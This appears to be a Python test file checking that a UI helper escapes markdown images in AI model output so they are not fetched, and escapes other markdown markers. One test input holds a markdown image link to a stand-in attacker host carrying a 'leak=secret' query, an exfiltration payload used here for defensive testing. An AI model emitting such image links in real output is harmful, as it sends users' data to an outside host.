"""Model text stays inert in markdown: images are not fetched, queries and errors show literally."""
from ui.safe_text import model_markdown, plain


def test_images_in_model_output_become_text_but_formatting_stays():
    text = "**30 days** ![pixel](https://evil.example/?leak=secret) and [a link](https://x)"
    shown = model_markdown(text)
    assert "**30 days**" in shown and "[a link](https://x)" in shown
    assert "![pixel]" not in shown and "!\\[pixel]" in shown


def test_plain_escapes_every_markdown_marker():
    assert plain("a *b* [c](d) :red[e] #f") == "a \\*b\\* \\[c\\]\\(d\\) \\:red\\[e\\] \\#f"
